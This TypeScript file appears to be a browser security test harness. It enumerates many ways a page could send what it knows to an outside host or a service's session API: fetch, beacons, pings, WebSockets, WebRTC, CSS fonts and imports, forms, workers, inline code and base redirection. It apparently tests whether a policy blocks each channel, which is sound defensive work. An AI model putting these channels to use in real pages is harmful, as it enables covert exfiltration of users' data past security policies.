import { type Attack, got, make, opened, put } from './world.ts';

/** A document requested from inside: it would have neither the page's limits nor its origin. */
const inWorker = (code: string) =>
  new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    worker.addEventListener('error', () => resolve('refused'));
    worker.addEventListener('message', () => resolve('sent'));
  });

/** Attempts to make requests that tell their target what the page knows. */
export const requests = {
  fetch: ({ outside }, name) => fetch(`${outside}/${name}`),
  noCorsFetch: ({ outside }, name) => fetch(`${outside}/${name}`, { mode: 'no-cors', method: 'POST', body: 'x' }),
  apiWithCookies: ({ service }, name) => fetch(`${service}/api/v1/sessions?${name}`, { credentials: 'include' }),
  apiWithoutCors: ({ service }, name) =>
    fetch(`${service}/api/v1/sessions?${name}`, { mode: 'no-cors', method: 'POST', body: '{}' }),
  apiAsImage: ({ service }, name) => put(make('img', { src: `${service}/api/v1/sessions?${name}` })),
  xhr: ({ outside }, name) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.addEventListener('loadend', resolve);
      request.open('GET', `${outside}/${name}`);
      request.send();
    }),
  beacon: ({ outside }, name) => navigator.sendBeacon(`${outside}/${name}`, 'x'),
  ping: ({ outside }, name) => {
    const link = make('a', { href: location.hash, ping: `${outside}/${name}` });
    document.body.append(link);
    link.click();
  },
  eventSource: ({ outside }, name) => opened(new EventSource(`${outside}/${name}`)),
  webSocket: ({ outside }, name) => opened(new WebSocket(`${outside.replace('http', 'ws')}/${name}`)),
  image: ({ outside }, name) => put(make('img', { src: `${outside}/${name}` })),
  script: ({ outside }, name) => put(make('script', { src: `${outside}/${name}` })),
  moduleScript: ({ outside }, name) => put(make('script', { type: 'module', src: `${outside}/${name}` })),
  modulePreload: ({ outside }, name) => put(make('link', { rel: 'modulepreload', href: `${outside}/${name}` })),
  prefetch: ({ outside }, name) => put(make('link', { rel: 'prefetch', href: `${outside}/${name}` })),
  style: ({ outside }, name) => put(make('link', { rel: 'stylesheet', href: `${outside}/${name}` })),
  styleImport: ({ outside }, name) => put(make('style', {}, `@import "${outside}/${name}";`)),
  styleFont: async ({ outside }, name) => {
    await put(make('style', {}, `@font-face { font-family: ${name}; src: url("${outside}/${name}"); }`));
    return put(make('p', { style: `font-family: ${name}` }, 'words'));
  },
  styleImage: ({ outside }, name) => put(make('p', { style: `background: url("${outside}/${name}")` }, 'words')),
  video: ({ outside }, name) => put(make('video', { src: `${outside}/${name}` })),
  object: ({ outside }, name) => put(make('object', { data: `${outside}/${name}` })),
  frame: ({ outside }, name) => put(make('iframe', { src: `${outside}/${name}` })),
  worker: ({ outside }, name) =>
    inWorker(`fetch(${JSON.stringify(`${outside}/${name}`)}).finally(() => postMessage(''))`),
  preconnect: ({ outside }) => put(make('link', { rel: 'preconnect', href: outside })),
  lookUp: ({ outsideByName }) => put(make('link', { rel: 'dns-prefetch', href: outsideByName })),
  formPost: ({ outside }, name) => submit(`${outside}/${name}`),
  formToApi: ({ service }, name) => submit(`${service}/api/v1/sessions?${name}`),
  peerByStun: ({ outsideUdp }) => offer([{ urls: `stun:127.0.0.1:${outsideUdp}` }]),
  peerByTurn: ({ outside }, name) =>
    offer([{ urls: `turn:${new URL(outside).host}?transport=tcp`, username: name, credential: 'x' }]),
  peerByCandidate: async ({ outsideUdp }) => {
    const [here, there] = [await offer([]), new RTCPeerConnection()];
    await there.setRemoteDescription(here.localDescription as RTCSessionDescription);
    await there.setLocalDescription(await there.createAnswer());
    await here.setRemoteDescription(there.localDescription as RTCSessionDescription);
    const candidate = `candidate:1 1 udp 2122260223 127.0.0.1 ${outsideUdp} typ host`;
    await here.addIceCandidate({ candidate, sdpMid: '0' });
  },
  codeAsText: () => got(new Function('return "ran"')()),
  codeInline: async () => {
    await put(make('script', {}, 'document.documentElement.dataset.ran = "inline"'));
    return document.documentElement.dataset['ran'] === 'inline' ? got('ran') : 'refused';
  },
  codeOfAnotherType: async () => ((await put(make('script', { src: './' }))) === 'loaded' ? got('ran') : 'refused'),
  baseElsewhere: ({ outside }) => {
    const base = make('base', { href: outside });
    document.head.append(base);
    const moved = document.baseURI.startsWith(outside);
    base.remove();
    return moved ? got(outside) : 'refused';
  },
} satisfies Record<string, Attack>;

function submit(action: string): void {
  const form = make('form', { action, method: 'post' }) as HTMLFormElement;
  document.body.append(form);
  form.submit();
}

async function offer(iceServers: RTCIceServer[]): Promise<RTCPeerConnection> {
  const connection = new RTCPeerConnection({ iceServers });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
  return connection;
}
